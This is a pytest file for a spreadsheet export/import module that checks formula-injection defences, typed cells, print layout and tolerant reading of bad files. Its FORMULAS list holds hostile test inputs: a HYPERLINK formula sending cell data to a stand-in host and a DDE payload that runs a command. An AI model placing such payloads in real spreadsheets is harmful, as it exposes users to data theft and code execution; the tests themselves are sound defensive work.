"""The one spreadsheet mechanism: text is never a formula, cells are typed, the sheet is laid
out for the county office (title, header, print set-up), and the reader survives bad files."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from lianxin.core.spreadsheets import (
    Column,
    Field,
    Sheet,
    SpreadsheetError,
    content_disposition,
    read_table,
    workbook_bytes,
    xlsx_response,
)

FORMULAS = [
    '=HYPERLINK("http://x/?d="&A2,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
NOW = datetime(2026, 12, 1, 1, 30, tzinfo=ZoneInfo("UTC"))  # 09:30 in Asia/Shanghai


def assert_no_formulas(data: bytes) -> None:
    """No cell of any sheet is a formula, on reload and in the XML itself."""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name


def _sheet(rows, **kw):
    return Sheet(
        "阵地档案",
        [
            Column("名称", "name", width=20),
            Column("数量", "n", kind="int"),
            Column("面积", "area", kind="decimal", digits=1),
            Column("占比", "rate", kind="percent"),
            Column("日期", "day", kind="date"),
            Column("时间", "at", kind="datetime"),
        ],
        rows,
        scope="武山县",
        **kw,
    )


def test_text_that_looks_like_a_formula_is_written_as_text():
    rows = [{"name": f} for f in FORMULAS]
    data = workbook_bytes([_sheet(rows)], now=NOW)
    assert_no_formulas(data)
    ws = load_workbook(io.BytesIO(data)).active
    values = [ws.cell(row=3 + i, column=1) for i in range(len(FORMULAS))]
    assert [c.value for c in values] == [f.replace("\r", "\n") for f in FORMULAS]  # XML: CR → LF
    assert all(c.data_type == "s" and c.quotePrefix for c in values)


def test_cells_are_typed_and_the_sheet_is_laid_out_for_printing():
    rows = [
        {
            "name": "东关社区",
            "n": 3,
            "area": Decimal("420.5"),
            "rate": 0.756,
            "day": date(2026, 11, 30),
            "at": NOW,
        },
        {"name": "", "n": None, "area": None, "rate": None, "day": None, "at": None},
    ]
    data = workbook_bytes([_sheet(rows)], now=NOW)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "武山县 · 阵地档案 · 导出于 2026-12-01 09:30"
    assert [c.value for c in ws[2]] == ["名称", "数量", "面积", "占比", "日期", "时间"]
    assert all(c.font.bold for c in ws[2])
    name, n, area, rate, day, at = ws[3]
    assert name.value == "东关社区"
    assert n.value == 3 and n.data_type == "n"
    assert area.value == 420.5 and area.number_format == "0.0"
    assert rate.value == 0.756 and rate.number_format == "0.0%"
    assert day.value.date() == date(2026, 11, 30) and day.number_format == "yyyy-mm-dd"
    assert at.value == datetime(2026, 12, 1, 9, 30)  # local time, naive in the file
    assert all(c.value is None for c in ws[4])
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].width == 20
    assert ws.print_title_rows == "$2:$2"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage


def test_numbers_given_as_text_stay_visible_and_control_characters_do_not_break_the_file():
    rows = [{"name": "a\x01b\x0bc", "n": "不详", "area": "=1+1"}]
    data = workbook_bytes([_sheet(rows)], now=NOW)
    assert_no_formulas(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws["A3"].value, ws["B3"].value, ws["C3"].value] == ["abc", "不详", "=1+1"]


def test_tuple_rows_getters_and_dotted_keys():
    class U:
        name = "=1"

    class V:
        unit = U()

    cols = [Column("甲"), Column("乙", lambda r: r[1] * 2, kind="int")]
    data = workbook_bytes(
        [Sheet("t", cols, [("x", 2)]), Sheet("t", [Column("单位", "unit.name")], [V()])]
    )
    wb = load_workbook(io.BytesIO(data))
    assert [c.value for c in wb.worksheets[0][3]] == ["x", 4]
    assert wb.worksheets[1]["A3"].value == "=1" and len({ws.title for ws in wb.worksheets}) == 2


def test_chinese_file_name_in_content_disposition():
    header = content_disposition("阵地档案-20261201.xlsx")
    assert header.startswith("attachment; ")
    assert "filename*=UTF-8''%E9%98%B5%E5%9C%B0%E6%A1%A3%E6%A1%88-20261201.xlsx" in header
    response = xlsx_response("阵地档案.xlsx", [_sheet([])])
    assert response["Cache-Control"] == "private, no-store"
    assert response.content[:2] == b"PK"


# --- reading ----------------------------------------------------------------------------------

FIELDS = [Field("区划代码", "code", required=True), Field("名称", "name"), Field("层数", "floors")]


def _book(rows: list[list]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_header_found_below_a_title_and_matched_by_name_not_position():
    data = _book(
        [
            ["武山县 · 阵地档案"],
            ["层数", "备注", "区划代码", "名称 "],
            [2, "x", 620524100001, "东关"],
        ]
    )
    table = read_table(data, FIELDS)
    rows = list(table)
    assert table.total == 1 and rows[0].number == 3
    assert rows[0].values == {"floors": 2, "code": 620524100001, "name": "东关"}
    assert rows[0].text("code") == "620524100001"


def test_short_rows_are_padded_and_long_rows_do_not_break():
    data = _book(
        [["区划代码", "名称", "层数"], ["1"], ["2", "乙", 3, "多", "余"], [None, None], ["3", "丙"]]
    )
    table = read_table(data, FIELDS, extra="error")
    rows = list(table)
    assert [r.number for r in rows] == [2, 3, 5]  # the blank row 4 is skipped
    assert rows[0].values == {"code": "1", "name": None, "floors": None}
    assert rows[1].values == {"code": "2", "name": "乙", "floors": 3} and rows[1].extra == [
        "多",
        "余",
    ]
    assert [str(e) for e in table.errors] == ["行 3：本行比表头多出 2 个单元格，已忽略多出的部分。"]
    ignored = read_table(data, FIELDS)
    list(ignored)
    assert ignored.errors == []


def test_row_limit_refused_in_chinese(settings):
    settings.LIANXIN_IMPORT_MAX_ROWS = 3
    data = _book([["区划代码"], *[[str(i)] for i in range(4)]])
    with pytest.raises(SpreadsheetError, match="超过 3 行"):
        read_table(data, FIELDS)
    assert read_table(data, FIELDS, max_rows=4).total == 4


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not a workbook", "无法读取"),
        (_book([]), "未找到表头"),
        (_book([["名称", "层数"], ["a", 1]]), "表头缺少“区划代码”列"),
    ],
)
def test_whole_file_problems_are_one_chinese_error(data, message):
    with pytest.raises(SpreadsheetError, match=message):
        read_table(data, FIELDS)


def test_export_reads_back_through_the_reader():
    sheet = Sheet(
        "t",
        [Column("区划代码", "code"), Column("名称", "name"), Column("层数", "floors", kind="int")],
        [{"code": "620524100001", "name": "=A1", "floors": 2}],
    )
    rows = list(read_table(workbook_bytes([sheet]), FIELDS))
    assert rows[0].values == {"code": "620524100001", "name": "=A1", "floors": 2}
